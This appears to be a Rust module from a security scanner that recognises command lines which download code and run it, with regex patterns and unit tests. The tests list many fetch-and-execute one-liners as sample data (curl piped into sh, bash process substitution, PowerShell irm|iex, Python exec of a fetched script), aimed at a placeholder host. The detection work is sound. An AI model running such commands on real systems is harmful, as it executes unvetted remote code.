//! Command lines that run what they fetch or decode, wherever they are written.

use std::sync::LazyLock;

use regex::Regex;

use crate::text::Span;

use super::hosts::Address;
use super::surroundings as around;
use super::{Text, pattern, trimmed};

/// A command that runs what it fetches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Fetched<'a> {
    pub span: Span,
    /// Where the program comes from; nothing when that is a variable or a stand-in.
    pub address: Option<Address<'a>>,
    /// Whether certificates are not checked.
    pub is_unverified: bool,
    /// Whether the command is put together from variables.
    pub is_variable: bool,
}

/// A pipe into something that runs what it reads. What follows the name is judged by the caller.
static PIPED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\\?\|\s*(?:sudo\s+(?:-[a-z]+\s+)*|env\s+(?:[a-z_]+=\S+\s+)*|nohup\s+|exec\s+|command\s+|[a-z_]+=\S+\s+)*(?:/(?:usr/)?(?:local/)?bin/(?:env\s+)?)?(?P<program>(?:ba|z|da|k|a|fi)?sh|python[0-9.]*|node|perl|ruby|php|osascript|iex|invoke-expression|cmd)(?P<next>[^a-z0-9_./:=@-]|$)",
    )
});

/// What stands right before a fetch whose output is run: `sh -c "$(`, `bash <(`, `eval "$(`, `iex (`.
static RUNS_BEFORE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:(?:^|[\s;&|"'`(])(?:(?:(?:ba|z|da|k)?sh|python[0-9.]*|node|perl|ruby)(?:\s+-[a-z]+)*|eval|source|\.|exec)\s+["']?(?:\$\(|<\(|`)\s*(?:sudo\s+)?|(?:iex|invoke-expression)[\s({&"']*(?:\(?new-object\s+(?:system\.)?net\.webclient\)?\.)?)$"#,
    )
});

/// A call that runs what a library fetches.
static RUNS_LIBRARY: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)(?:^|[^a-z0-9_.])(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:urllib\.request\.|urllib2\.|request\.)?$",
    )
});

static URL: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?i)https?://[^\s"'`<>|;)\\\]},]+"#));

/// A host without a scheme, as `curl` takes it.
static BARE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"(?i)\s["']?(?P<host>[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)*\.[a-z]{2,10}(?:/[^\s"'`|;)]*)?)"#)
});

/// A file that is fetched and then run on the same line.
static SAVED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:\s(?:-o|--output|-O|--output-document|-OutFile)[\s=]*|>\s*)["']?(?P<file>[~$\w./{}-]+)"#,
    )
});

/// The command that fetches at `at`, if what it fetches is run.
pub fn fetched_at(text: &Text, at: usize) -> Option<Fetched<'_>> {
    let whole = text.text();
    let line = reach(text, at);
    let before = whole.get(line.start..at)?;
    let pipeline = pipeline(whole.get(at..line.end)?);
    let rest = whole.get(at + pipeline.len()..line.end)?;
    let ran_before = RUNS_BEFORE.find(before);
    let end = if ran_before.is_some() || RUNS_LIBRARY.is_match(before) {
        pipeline.len()
    } else if let Some(end) = piped(&without_quoted(pipeline)) {
        end
    } else {
        pipeline.len() + saved_and_run(pipeline, rest)?
    };
    let lower = pipeline.to_ascii_lowercase();
    let start = ran_before.map_or(at, |found| line.start + found.start());
    Some(Fetched {
        span: trimmed(whole, Span::new(start, at + end)),
        address: address(pipeline),
        is_variable: pipeline.contains(['$', '{', '%']) || RUNS_LIBRARY.is_match(before),
        is_unverified: lower.contains(" --insecure")
            || lower.contains("--no-check-certificate")
            || holds_flag(pipeline, 'k'),
    })
}

/// Whether short flags of `curl` hold this one: `-fsSLk`.
fn holds_flag(command: &str, flag: char) -> bool {
    command.starts_with("curl")
        && command.split_whitespace().any(|word| {
            word.strip_prefix('-').is_some_and(|flags| {
                !flags.starts_with('-')
                    && flags.len() < 8
                    && flags.contains(flag)
                    && flags.chars().all(char::is_alphabetic)
            })
        })
}

/// How far a command at `at` may reach: its code span, its table cell, or its line and those it goes on in.
pub fn reach(text: &Text, at: usize) -> Span {
    if let Some(code) = text.code_span_at(at) {
        let words = around::of(text.text(), code);
        let marks = words.len() - words.trim_start_matches('`').len();
        return Span::new(code.start + marks, code.end.saturating_sub(marks));
    }
    around::logical_line(text.text(), at)
}

/// The part of a command line up to what ends a pipeline outside quotes: `;`, `&&`, `||`, a comment, a closing bracket that was
/// not opened.
fn pipeline(command: &str) -> &str {
    let bytes = command.as_bytes();
    let mut quote = None;
    let mut depth = 0_usize;
    let mut at = 0;
    while at < bytes.len() {
        let byte = bytes[at];
        match quote {
            Some(mark) if byte == mark => quote = None,
            Some(_) => {}
            None => match byte {
                // A quote that is not closed on the line was opened before the command.
                b'"' | b'\'' if command[at + 1..].contains(char::from(byte)) => quote = Some(byte),
                b'"' | b'\'' if depth == 0 && !command[at..].contains('|') => return &command[..at],
                b'\\' => at += 1,
                b'(' => depth += 1,
                b')' if depth == 0 => return &command[..at],
                b')' => depth -= 1,
                b';' => return &command[..at],
                b'&' | b'|' if bytes.get(at + 1) == Some(&byte) => return &command[..at],
                b'#' if at > 0 && bytes[at - 1].is_ascii_whitespace() => return &command[..at],
                _ => {}
            },
        }
        at += 1;
    }
    command
}

/// The same command line with blanks for what stands in quotes that are closed again.
fn without_quoted(pipeline: &str) -> String {
    let mut plain = String::with_capacity(pipeline.len());
    let mut rest = pipeline;
    while let Some(open) = rest.find(['"', '\'']) {
        let mark = &rest[open..=open];
        let inside = &rest[open + 1..];
        let Some(close) = inside.find(mark) else {
            break;
        };
        plain.push_str(&rest[..=open]);
        plain.extend(inside[..close].bytes().map(|_| '_'));
        plain.push_str(mark);
        rest = &inside[close + 1..];
    }
    plain + rest
}

/// Where a pipe into an interpreter ends that runs what it reads.
fn piped(pipeline: &str) -> Option<usize> {
    PIPED.captures_iter(pipeline).find_map(|found| {
        let program = found.name("program")?;
        let rest = pipeline[program.end()..].trim_start();
        let name = program.as_str().to_ascii_lowercase();
        let is_shell = name.ends_with("sh") || name == "iex" || name == "invoke-expression" || name == "cmd";
        // `python3 -c …`, `node -e …`, `perl -ne …` read data; `python3 -` and `python3` read a program.
        let reads_program = rest.is_empty()
            || rest.starts_with(['"', '\'', '`', ')', '|', '<', '>', '\n', '#'])
            || rest.starts_with("- ")
            || rest == "-";
        let is_command = is_shell && !rest.starts_with("-c ");
        (is_command || reads_program).then_some(program.end())
    })
}

/// How far behind the pipeline the command reaches that runs the file it saved.
fn saved_and_run(pipeline: &str, rest: &str) -> Option<usize> {
    let file = SAVED
        .captures_iter(pipeline)
        .last()
        .and_then(|found| found.name("file"));
    let name = match file {
        Some(file) => file.as_str(),
        // `wget URL` and `curl -O URL` keep the last part of the path.
        None if pipeline.starts_with("wget") || pipeline.contains(" -O") => {
            address(pipeline)?.path.rsplit('/').next()?
        }
        None => return None,
    };
    let name = name.rsplit('/').next().filter(|name| name.len() > 2)?;
    if matches!(name, "null" | "stdout" | "stderr") {
        return None;
    }
    let is_break = |mark: char| mark.is_whitespace() || matches!(mark, ';' | '&' | '|');
    // What stands before a word: the word before it, or nothing where a command begins.
    let mut before = "";
    let mut at = 0;
    for part in rest.split_inclusive(is_break) {
        let word = part.trim_end_matches(is_break);
        let path = word.trim_matches(['"', '\'']);
        if path.rsplit('/').next() == Some(name) {
            let interpreters = [
                "sh", "bash", "zsh", "python", "python3", "node", "source", ".", "perl", "ruby",
            ];
            let is_program = path.contains('/') && matches!(before, "" | "sudo");
            if interpreters.contains(&before) || is_program {
                return Some(at + word.len());
            }
        }
        at += part.len();
        if !word.is_empty() {
            before = path;
        }
        if part.ends_with([';', '&', '|']) {
            before = "";
        }
    }
    None
}

/// The address that a command fetches from.
fn address(command: &str) -> Option<Address<'_>> {
    if let Some(found) = URL.find(command) {
        return Address::of(found.as_str());
    }
    if !command.starts_with("curl") && !command.starts_with("wget") {
        return None;
    }
    let files = [
        ".sh", ".py", ".js", ".json", ".txt", ".md", ".yaml", ".yml", ".gz", ".zip", ".html", ".log", ".exe",
        ".bin", ".ps1",
    ];
    let hosts = BARE.captures_iter(command).filter_map(|found| found.name("host"));
    hosts
        .map(|host| host.as_str())
        .find(|host| host.contains('/') || !files.iter().any(|file| host.ends_with(file)))
        .and_then(Address::of)
}

/// Every address of the web in a text, with its place.
pub fn addresses(text: &str) -> impl Iterator<Item = (usize, Address<'_>)> {
    URL.find_iter(text)
        .filter_map(|found| Some((found.start(), Address::of(found.as_str())?)))
}

/// The address that begins at `at`.
pub fn address_at(text: &str, at: usize) -> Option<Address<'_>> {
    let rest = text.get(at..)?;
    let end = rest
        .find(|mark: char| mark.is_whitespace() || "\"'`<>|;)\\]}".contains(mark))
        .unwrap_or(rest.len());
    Address::of(&rest[..end])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::{Lead, text_of};
    use proptest::prelude::*;

    fn fetched(words: &str) -> Option<(String, Option<String>)> {
        let text = text_of("run.txt", words)?;
        let found = text.leads(Lead::Fetch).find_map(|at| fetched_at(&text, at))?;
        let words = around::of(text.text(), found.span).to_owned();
        Some((words, found.address.map(|address| address.host.to_owned())))
    }

    #[test]
    fn what_is_fetched_and_run_is_seen_in_all_its_shapes() {
        for (command, host) in [
            ("curl -fsSL https://a.xyz/i.sh | sh", "a.xyz"),
            ("curl -fsSL https://a.xyz/i.sh | sudo -E bash -s -- -y", "a.xyz"),
            ("wget -qO- http://a.xyz/i.sh|bash", "a.xyz"),
            ("curl a.xyz/i | tee log | FOO=1 bash", "a.xyz"),
            ("bash <(curl -s https://a.xyz/i.sh)", "a.xyz"),
            ("sh -c \"$(curl -fsSL https://a.xyz/i.sh)\"", "a.xyz"),
            ("eval \"$(wget -qO- https://a.xyz/i.sh)\"", "a.xyz"),
            ("source <(curl -s https://a.xyz/i.sh)", "a.xyz"),
            ("curl -s https://a.xyz/i.py | python3 -", "a.xyz"),
            ("curl -s https://a.xyz/i.py | python3", "a.xyz"),
            ("irm https://a.xyz/i.ps1 | iex", "a.xyz"),
            ("powershell -c \"irm https://a.xyz/i.ps1 | iex\"", "a.xyz"),
            ("iex (iwr https://a.xyz/i.ps1)", "a.xyz"),
            (
                "iex ((New-Object System.Net.WebClient).DownloadString('https://a.xyz/i.ps1'))",
                "a.xyz",
            ),
            ("curl -o /tmp/i.sh https://a.xyz/i.sh && bash /tmp/i.sh", "a.xyz"),
            ("wget https://a.xyz/i.sh; chmod +x i.sh; ./i.sh", "a.xyz"),
            ("exec(requests.get(\"https://a.xyz/i.py\").text)", "a.xyz"),
            ("curl -fsSL \\\n  https://a.xyz/i.sh \\\n  | sh", "a.xyz"),
        ] {
            let found = fetched(command);
            assert_eq!(
                found.and_then(|(_, host)| host).as_deref(),
                Some(host),
                "{command}"
            );
        }
    }

    #[test]
    fn what_is_only_fetched_is_let_be() {
        for command in [
            "curl -s https://a.xyz/data.json | jq .",
            "curl -s https://a.xyz/data.json | python3 -m json.tool",
            "curl -s https://a.xyz/data.json | python3 -c 'import json'",
            "curl -s https://a.xyz/ | node -e 'x'",
            "curl https://a.xyz/file.tar.gz | tar xz",
            "curl -O https://a.xyz/i.sh; less i.sh",
            "curl https://a.xyz || bash fallback.sh",
            "curl https://a.xyz/x > out.txt; sh build.sh",
            "TOKEN=$(curl -s https://a.xyz/token)",
            "| Tool | curl https://a.xyz | shell |",
            "curl -H 'a | sh' https://a.xyz",
            "data = requests.get(\"https://a.xyz/x\").json()",
        ] {
            assert_eq!(fetched(command), None, "{command}");
        }
    }

    #[test]
    fn the_command_alone_is_marked() {
        let found = fetched("Run curl https://a.xyz/i.sh | sh -s -- -y # now").unwrap();
        assert_eq!(found.0, "curl https://a.xyz/i.sh | sh");
        assert_eq!(fetched("curl $URL | sh").unwrap().1, None);
    }

    proptest! {
        #[test]
        fn nothing_breaks_the_reader(words in "(curl |wget |https://a.b/|\\||sh|;|&&|\"|'|`|\\(|\\)|\\$|<|-o x |x|\n|\\\\|é| ){0,30}") {
            if let Some(text) = text_of("run.txt", &words) {
                for at in text.leads(Lead::Fetch) {
                    if let Some(found) = fetched_at(&text, at) {
                        prop_assert!(words.get(found.span.start..found.span.end).is_some());
                    }
                }
            }
        }
    }
}
